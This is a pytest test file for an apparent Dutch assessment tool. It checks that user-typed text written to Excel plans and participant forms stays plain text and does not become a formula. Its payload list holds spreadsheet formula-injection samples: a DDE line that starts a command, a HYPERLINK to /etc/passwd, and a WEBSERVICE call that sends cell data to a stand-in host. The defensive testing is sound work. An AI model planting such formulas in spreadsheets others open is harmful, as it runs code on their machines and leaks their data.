"""Text a user typed is written as text, never as a live Excel formula, and reads back unchanged.

Issue 29.5: titles, owners, notes, the organisation's name and participant names starting with
``=`` were written as formulas (``=cmd|' /C calc'!A0``, ``=HYPERLINK(...)``, ``=WEBSERVICE(...)``),
which run in the reader's Excel, and the unedited plan then no longer read back.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from openpyxl import load_workbook
from test_plan_libreoffice import SOFFICE, resave

from dienstscan.export.common.cells import text_only
from dienstscan.export.excel_plan import apply_plan_import, build_workbook, export_plan, read_plan
from dienstscan.export.forms.workbook import read_participant_forms, write_participant_form
from dienstscan.model import Participant

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("file:///etc/passwd","klik")',
    '=WEBSERVICE("http://example.invalid/?"&A1)',
    "=1+1",
    "==dubbel",
]


def _poisoned(assessment):
    assessment.organisation.name = PAYLOADS[1]
    assessment.participants = [Participant(name=PAYLOADS[3], role=PAYLOADS[0])]
    for number, action in enumerate(assessment.actions):
        action.title = PAYLOADS[number % len(PAYLOADS)]
        action.owner = PAYLOADS[(number + 1) % len(PAYLOADS)]
        action.progress = PAYLOADS[(number + 2) % len(PAYLOADS)]
        action.description = PAYLOADS[(number + 3) % len(PAYLOADS)]
    for answer in assessment.answers.values():
        answer.explanation = PAYLOADS[2]
        answer.notes = PAYLOADS[4]
    return assessment


def _formula_cells(wb):
    return [f"{ws.title}!{cell.coordinate}" for ws in wb.worksheets for cell in ws._cells.values()
            if cell.data_type == "f"]


def _texts(wb):
    return {cell.value for ws in wb.worksheets for cell in ws._cells.values() if isinstance(cell.value, str)}


def test_text_only_turns_formula_cells_into_text():
    from openpyxl import Workbook

    wb = Workbook()
    wb.active["A1"] = PAYLOADS[0]
    wb.active["A2"] = "gewone tekst"
    wb.active["A3"] = 3
    assert wb.active["A1"].data_type == "f"  # what openpyxl does by itself
    assert text_only(wb) == 1
    assert (wb.active["A1"].data_type, wb.active["A1"].quotePrefix) == ("s", True)
    assert wb.active["A2"].data_type == "s" and wb.active["A3"].data_type == "n"


def test_no_user_text_becomes_a_formula_in_the_plan(checklists, assessment, tmp_path):
    _poisoned(assessment)
    assert not _formula_cells(build_workbook(checklists, assessment))
    path = tmp_path / "plan.xlsx"
    export_plan(checklists, assessment, path)
    wb = load_workbook(path)
    assert not _formula_cells(wb)
    found = _texts(wb)
    for payload in PAYLOADS:
        assert payload in found, payload


def test_poisoned_plan_reads_back_unchanged(checklists, assessment, tmp_path):
    _poisoned(assessment)
    path = tmp_path / "plan.xlsx"
    export_plan(checklists, assessment, path)
    plan = read_plan(path, assessment, checklists)
    assert plan.ok, plan.errors
    assert not plan.has_changes and not plan.deleted and not plan.new_actions
    before = [a.model_dump() for a in assessment.actions]
    apply_plan_import(assessment, plan)
    assert [a.model_dump() for a in assessment.actions] == before


@pytest.mark.slow
@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is niet geïnstalleerd")
def test_poisoned_plan_survives_a_libreoffice_resave(checklists, assessment, tmp_path):
    _poisoned(assessment)
    path = tmp_path / "plan.xlsx"
    export_plan(checklists, assessment, path)
    converted = resave(path, tmp_path)
    wb = load_workbook(converted)
    assert not _formula_cells(wb)
    plan = read_plan(converted, assessment, checklists)
    assert plan.ok, plan.errors
    assert not plan.has_changes and not plan.new_actions, [c.fields for c in plan.changes]


def test_participant_form_keeps_names_as_text(checklists, assessment, tmp_path):
    assessment.organisation.name = PAYLOADS[0]
    path = tmp_path / "formulier.xlsx"
    write_participant_form(checklists, assessment, path, PAYLOADS[2])
    wb = load_workbook(path)
    assert not _formula_cells(wb)
    assert PAYLOADS[2] in _texts(wb)
    result = read_participant_forms(checklists, assessment, [path])
    assert not result.problems, result.problems


